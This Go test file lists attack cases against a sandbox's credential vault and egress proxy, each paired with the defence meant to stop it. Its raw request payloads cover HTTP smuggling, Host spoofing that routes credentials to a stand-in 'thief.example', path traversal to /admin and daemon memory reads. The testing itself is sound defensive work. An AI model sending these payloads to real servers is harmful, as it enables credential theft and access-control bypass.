package attacks_test

import (
	"github.com/sandboxd/sandboxd/internal/weak"
	"github.com/sandboxd/sandboxd/test/internet"
)

// What holds attacks on credentials, and what they get without it.
const (
	wallJudge = "each decrypted request is for the host of its connection, and is judged"
	wallVault = "a placeholder is exchanged only where a binding says so"
	wallForms = "requests are parsed by net/http, and written anew"
)

var leaked = words{"leaked"}

// ended is how a connection or a stream ends that is refused after its head.
var ended = words{"reset", "GOAWAY", "EOF", "ECONNRESET"}

// parsed is why there is no proof of what net/http refuses or takes away.
var parsed = unproven("net/http cannot be made to pass it on; pkg/egress/terminate TestSmuggling, FuzzHTTP1, FuzzHTTP2")

const (
	bound  = "Host: bound.example\nConnection: close\n"
	ending = "Connection: close\n\n"
	get    = "GET /v1/x HTTP/1.1\n"
	post   = "POST /v1/x HTTP/1.1\n"
	asks   = ":method GET|:scheme https|:path /v1/x|:authority "
	sends  = ":method POST|:scheme https|:path /v1/x|:authority "
)

// anything is a text that no server says: what comes where it must not is seen by the server.
const anything = "nobody says this"

// by1 sends requests by HTTP/1.1 over TLS to the bound host. In all rows about credentials \n is
// CR LF, and \v a bare LF.
func by1(name, wall, requests string, held ...string) attack {
	return attack{
		name: name, wall: wall, vault: true, held: held, got: leaked,
		run: []string{"https", "SHARED:443", internet.BoundHost, anything, requests},
	}
}

// by2 sends requests by HTTP/2 to the bound host.
func by2(name, wall string, held words, requests ...string) attack {
	return attack{
		name: name, wall: wall, vault: true, held: held, got: leaked,
		run: append([]string{"frames", "SHARED:443", internet.BoundHost, anything}, requests...),
	}
}

// watched sends requests to a host that is decrypted, and that no credential is for.
func watched(name, requests string, held ...string) attack {
	return attack{
		name: name, wall: wallVault, vault: true, held: held, got: leaked,
		run: []string{"https", "OTHER:443", internet.WatchedHost, anything, requests},
	}
}

// echoes has a server answer with the request. It succeeds if the guest reads the value.
func echoing(name, path string, header ...string) attack {
	return attack{
		name: name, wall: "values in answers are masked (egress.mask_secrets)", vault: true, held: words{"other"},
		run: append([]string{"fetch", "https://" + internet.RepeatHost + path, "VALUE"}, header...),
	}
}

// vaultAttacks move the value of a credential to where it may not be. Servers of test/internet
// see where it comes.
var vaultAttacks = []attack{
	// First: the agent hears the arguments of the others, of which some have the value.
	attack{
		name: "a credential in the sandbox", wall: "no process, file or variable of a guest has a value", vault: true, held: words{"none"},
		run: []string{"hoard", "MARKONE", "MARKTWO"},
	}.both(unproven("nobody gives a guest a value")),

	// another host
	by1("a credential for another host, by its Host", wallJudge, get+"Host: thief.example\n"+ending, "421").both(without(weak.Judge)),
	by1("a credential for another host, by the target", wallJudge, "GET https://thief.example/v1/x HTTP/1.1\n"+bound+"\n", "421").
		both(without(weak.Judge)),
	by1("a credential for another host, by a second Host", wallForms, get+"Host: thief.example\n"+bound+"\n", "400").both(parsed),
	by1("a credential for another host, by a Host on a folded line", wallForms, get+"X-A: b\n Host: thief.example\n"+bound+"\n", "200").
		both(parsed),
	by1("a credential for another host, by a user before the host", wallJudge,
		get+"Host: thief.example@bound.example\n"+ending, "400", "421").both(parsed),
	by1("a credential for another host, by a header of proxies", "headers that move a request are taken away",
		get+bound+"X-Forwarded-Host: thief.example\nX-Host: thief.example\nForwarded: host=thief.example\n\n", "200").
		both(without(weak.Vault)),
	by1("a credential for another host, by a second request", wallJudge,
		get+"Host: bound.example\n\n"+get+"Host: thief.example\n"+ending, "421").both(without(weak.Judge)),
	by2("a credential for another host, by :authority", wallJudge, words{"421"}, asks+"thief.example").both(without(weak.Judge)),
	by2("a credential for another host, on a connection that two hosts share", wallJudge, words{"421"},
		asks+"bound.example", asks+"thief.example").both(without(weak.Judge)),
	by2("a credential for another host, by a Host beside :authority", wallForms, words{"400"}, asks+"bound.example|host thief.example").
		both(unproven("what is sent on has one Host, which is made anew")),
	by2("a credential for another host, by lines in a value", wallForms, ended,
		asks+`bound.example|x-a b\r\nHost: thief.example`).both(parsed),
	attack{
		name: "a credential for another address, by the name of a bound host", vault: true, held: words{"403", "502"}, got: leaked,
		wall: "the address must be the name's, and the server must have a certificate for the name",
		run:  []string{"https", "THIEF:443", internet.BoundHost, anything, get + bound + "\n"},
	}.both(without(weak.Proxy, weak.Servers)),
	attack{
		name: "a credential for a host whose name has moved", vault: true, held: words{"502"}, got: leaked,
		wall: "the server must have a certificate for the name",
		run: []string{
			"https-leased", "GATEWAY:53", internet.MovedHost, "THIEF:443", internet.MovedHost, anything,
			get + "Host: moved.example\n" + ending,
		},
	}.both(without(weak.Servers)),
	attack{
		name: "a credential that follows a redirect", vault: true, held: words{"403"}, got: leaked, wall: wallVault,
		run: []string{
			"fetch", "https://" + internet.BoundHost + "/v1/to/" + internet.WatchedHost + "/?key=HOLDER", anything,
			"Authorization: Bearer HOLDER",
		},
	}.both(without(weak.Vault)),
	attack{
		name: "a credential that follows a redirect by itself", vault: true, held: words{"other"}, got: leaked,
		wall: "a credential is put into one request on its way out",
		run:  []string{"fetch", "https://" + internet.BoundHost + "/v1/to/" + internet.ThiefHost + "/", anything},
	}.both(unproven("the guest does not have the header that it would take along")),

	// another place
	by1("a placeholder in another header", wallVault, get+bound+"X-Other: HOLDER\n\n", "403").both(without(weak.Vault)),
	by1("a placeholder in a header with odd letters", wallForms, get+bound+"authorization : HOLDER\nX_Key\\t: HOLDER\n\n", "400").
		both(parsed),
	by1("a placeholder in Basic", wallVault, get+bound+"X-Other: Basic BASIC\n\n", "403").both(without(weak.Vault)),
	by1("a placeholder in the path", wallVault, "GET /v1/HOLDER HTTP/1.1\n"+bound+"\n", "403").both(without(weak.Vault)),
	by1("a placeholder in the path, behind escapes", "a path to a bound host has no escapes that it does not need",
		"GET /v1/%73bxph_HOLDER HTTP/1.1\n"+bound+"\n", "400").
		both(unproven("nothing is exchanged behind escapes; pkg/egress/vault/inject TestMalformed")),
	by1("a placeholder in the body", wallVault, post+bound+"Content-Length: 32\n\nHOLDER", "403").both(without(weak.Vault)),
	by1("a placeholder in a body in chunks, cut in two", wallVault,
		post+bound+"Transfer-Encoding: chunked\n\n10\nHALFONE\n10\nHALFTWO\n0\n\n", "403", "EOF", "ECONNRESET").
		both(without(weak.Vault)),
	by1("a placeholder in the extension of a chunk", wallForms,
		post+bound+"Transfer-Encoding: chunked\n\n1;HOLDER\na\n0\n\n", "200").both(parsed),
	by1("a placeholder in a trailer", wallVault,
		post+bound+"Transfer-Encoding: chunked\nTrailer: X-Other\n\n1\na\n0\nX-Other: HOLDER\n\n", "403", "EOF", "ECONNRESET").
		both(unproven("nothing is exchanged in trailers; pkg/egress/vault/inject TestTrailers")),
	by2("a placeholder in a trailer of HTTP/2", wallVault, ended.and("403"), sends+"bound.example|trailer x-other||a||x-other HOLDER").
		both(unproven("nothing is exchanged in trailers; pkg/egress/vault/inject TestTrailers")),
	by2("a placeholder in a header of HTTP/2", wallVault, words{"403"}, asks+"bound.example|x-other HOLDER").both(without(weak.Vault)),
	by2("a placeholder in a body of HTTP/2", wallVault, ended.and("403"), sends+"bound.example||HOLDER").both(without(weak.Vault)),
	by1("a placeholder of the query in a header", wallVault, get+bound+"X-Other: KEYHOLDER\n\n", "403").both(without(weak.Vault)),
	by1("a placeholder by another path", wallVault, "GET /open?key=KEYHOLDER HTTP/1.1\n"+bound+"\n", "403").both(without(weak.Vault)),
	by1("a credential by another path", wallVault, "GET /open HTTP/1.1\n"+bound+"\n", "200").both(without(weak.Vault)),
	by1("a credential by another method", wallVault, "PROPFIND /v1/x HTTP/1.1\n"+bound+"X-Other: HOLDER\n\n", "403").
		both(without(weak.Vault)),
	watched("a placeholder to another host, in the query",
		"GET /?key=HOLDER HTTP/1.1\nHost: watched.example\n"+ending, "403").both(without(weak.Vault)),
	watched("a placeholder to another host, in a header",
		"GET / HTTP/1.1\nHost: watched.example\nAuthorization: Bearer HOLDER\n"+ending, "403").both(without(weak.Vault)),
	watched("a placeholder to another host, in Basic",
		"GET / HTTP/1.1\nHost: watched.example\nAuthorization: Basic BASIC\n"+ending, "403").both(without(weak.Vault)),
	watched("a placeholder to another host, in the body",
		"POST / HTTP/1.1\nHost: watched.example\nContent-Length: 32\n"+ending+"HOLDER", "403").both(without(weak.Vault)),
	by1("a placeholder of another sandbox", "a child has the values of its own sandbox",
		get+bound+"Authorization: Bearer STRANGER\n\n", "403").both(unproven("the child of a sandbox never gets a value of another")),
	attack{
		name: "a placeholder to a host that is not decrypted", vault: true, held: words{"200"}, got: leaked,
		wall: "a placeholder is no secret",
		run:  []string{"https", "OTHER:443", internet.ThiefHost, anything, "GET /?key=HOLDER HTTP/1.1\nHost: thief.example\n" + ending},
	}.both(unproven("nothing is exchanged where nothing is decrypted")),

	// without TLS, or with that of another
	attack{
		name: "a credential in clear text", vault: true, held: words{"200"}, got: leaked,
		wall: "a binding is for https, if it does not say http",
		run:  []string{"http", "SHARED:80", anything, get + bound + "\n"},
	}.both(without(weak.Vault)),
	attack{
		name: "a placeholder in clear text", vault: true, held: words{"403"}, got: leaked, wall: wallVault,
		run: []string{"http", "SHARED:80", anything, get + bound + "X-Other: HOLDER\n\n"},
	}.both(without(weak.Vault)),
	attack{
		name: "the authority of another sandbox", vault: true, held: words{"untrusted"}, wall: "each sandbox has an authority of its own",
		run: []string{"trusts", "SHARED:443", internet.BoundHost, "/neighbour.pem"},
	}.both(unproven("no authority is shared, and none could be; the sandbox's own one passes")),
	attack{
		name: "a guest that does not trust the authority", vault: true, held: words{"untrusted"},
		wall: "a host that is bound is decrypted or not reached",
		run: []string{
			"sh", "-c", `rm -f AUTHORITY; echo >AUTHORITY; echo "" >/empty; ` +
				`curl -s --cacert /empty --capath /empty https://bound.example/v1/x; ` +
				`case $? in 60|77) echo untrusted;; 0) echo ok;; *) echo $?;; esac`,
		},
	}.both(unproven("without the authority the guest's own TLS fails; what it sends has no value in it")),

	// requests within requests, and past the rules
	by1("a request that a rule denies", wallJudge, "GET /admin HTTP/1.1\n"+bound+"\n", "403").both(without(weak.Judge)),
	by1("a request that a rule denies, behind another", wallJudge, get+"Host: bound.example\n\nGET /admin HTTP/1.1\n"+bound+"\n", "403").
		both(without(weak.Judge)),
	by1("a request within the body of another", wallForms,
		post+"Host: bound.example\nContent-Length: 60\nTransfer-Encoding: chunked\n\n0\n\nGET /admin HTTP/1.1\n"+bound+"\n",
		"403", "200").both(without(weak.Judge)),
	by1("a request within the body of another, by two codings", wallForms,
		post+"Host: bound.example\nTransfer-Encoding: chunked\nTransfer-Encoding: x\n\n0\n\nGET /admin HTTP/1.1\n"+bound+"\n",
		"400", "501").both(parsed),
	by1("a request within the body of another, by two lengths", wallForms,
		post+"Host: bound.example\nContent-Length: 0\nContent-Length: 40\n\nGET /admin HTTP/1.1\n"+bound+"\n", "400").both(parsed),
	by1("a request within the body of another, by a folded line", wallForms,
		post+"Host: bound.example\nContent-Length: 5\nTransfer-Encoding:\n chunked\n\n0\n\nGET /admin HTTP/1.1\n"+bound+"\n",
		"403").both(without(weak.Judge)),
	by1("a request within the body of another, by bare ends of lines", wallForms,
		post+"Host: bound.example\nX-A: b\vContent-Length: 0\v\vGET /admin HTTP/1.1\n"+bound+"\n", "403").both(without(weak.Judge)),
	by1("a request within the body of another, by HTTP/1.0", wallForms,
		"POST /v1/x HTTP/1.0\nHost: bound.example\nTransfer-Encoding: chunked\n\n0\n\nGET /admin HTTP/1.1\n"+bound+"\n",
		"200").both(parsed),
	by2("a request within a request of HTTP/2", wallForms, words{"400", "reset"},
		":method POST|:scheme https|:path /v1/x|:authority bound.example|transfer-encoding chunked||0\n\nGET /admin HTTP/1.1\n\n").
		both(parsed),
	by2("a request within the target of another", wallForms, words{"400", "reset", "GOAWAY"},
		`:method GET|:scheme https|:path /v1/x HTTP/1.1\r\nHost: bound.example\r\n\r\nGET /admin|:authority bound.example`).both(parsed),
	by1("a path that is read in two ways", "a path to a bound host has one meaning",
		"GET /v1/..%2f..%2fadmin HTTP/1.1\n"+bound+"\n", "400", "403").both(without(weak.Judge, weak.Vault)),
	by1("a path with dots", "a path to a bound host has one meaning",
		"GET /v1/../admin HTTP/1.1\n"+bound+"\n", "400", "403").both(without(weak.Judge, weak.Vault)),
	by1("a path with a parameter", "a path to a bound host has one meaning",
		"GET /v1/..;x/admin HTTP/1.1\n"+bound+"\n", "400", "403").both(without(weak.Judge, weak.Vault)),
	by1("another method or path by a header", "headers that move a request are taken away",
		post+bound+"X-Original-Url: /admin\nX-Rewrite-Url: /admin\nX-Http-Method-Override: DELETE\nContent-Length: 0\n\n", "200").
		both(without(weak.Vault)),

	// protocols
	by1("TRACE", "a host that gets credentials gets no TRACE", "TRACE /v1/x HTTP/1.1\n"+bound+"\n", "405").
		both(without(weak.Judge, weak.Vault)),
	by1("CONNECT in a decrypted connection", "a host that gets credentials gets no CONNECT",
		"CONNECT thief.example:443 HTTP/1.1\n"+bound+"\n", "405", "400").both(unproven("net/http/httputil passes on no CONNECT")),
	by1("a change to HTTP/2 in clear text", "of protocols that HTTP/1 may change to, WebSocket passes",
		get+"Host: bound.example\nConnection: Upgrade, HTTP2-Settings, close\nUpgrade: h2c\nHTTP2-Settings: AAMAAABkAAQAAP__\n\n", "200").
		both(unproven("no server of the test speaks it; pkg/egress/terminate TestOtherUpgrade")),
	by1("a request in a WebSocket", "what comes behind a change of protocols is passed on as it is",
		"GET /v1/upgrade HTTP/1.1\nHost: bound.example\nConnection: Upgrade\nUpgrade: websocket\nSec-WebSocket-Version: 13\n"+
			"Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\n\n|GET /admin HTTP/1.1\nAuthorization: Bearer HOLDER\n\n", "101").
		both(unproven("no value is put into what is not read")),
	by1("a request behind a WebSocket that the server refuses", wallJudge,
		"GET /v1/x HTTP/1.1\nHost: bound.example\nConnection: Upgrade\nUpgrade: websocket\nSec-WebSocket-Version: 13\n"+
			"Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\n\nGET /admin HTTP/1.1\n"+bound+"\n", "403").both(without(weak.Judge)),

	// answers
	echoing("an echo of a credential", "/v1/x").both(without(weak.Echoes)),
	echoing("an echo of a credential, byte by byte", "/v1/drip").both(without(weak.Echoes)),
	echoing("an echo of a credential, in parts and compressed", "/v1/x", "Range: bytes=20-", "Accept-Encoding: gzip").
		both(without(weak.Echoes)),
	attack{
		name: "an echo of a credential, in heads and trailers", wall: "values in answers are masked (egress.mask_secrets)", vault: true,
		held: words{"200"}, run: []string{
			"https", "SHARED:443", internet.RepeatHost, "VALUE", "GET /v1/head HTTP/1.1\nHost: repeat.example\nTE: trailers\n" + ending,
		},
	}.both(without(weak.Echoes)),
	attack{
		name:  "an echo of a credential in hexadecimal",
		wall:  "none: a server that encodes a value in its own way gives it away (a limit that is documented)",
		vault: true, held: words{"ok"}, run: []string{"fetch", "https://" + internet.RepeatHost + "/v1/hex", "HEX"},
	}.both(unproven("there is no wall")),

	// the host and the guest
	attack{
		name: "a credential in the daemon's memory", wall: "a guest sees its own processes", vault: true, held: refused,
		run: []string{"read", "/proc/DAEMON/mem"},
	}.both(unproven("the daemon has no number there; pkg/oci/runc TestConformance/Report")),
}
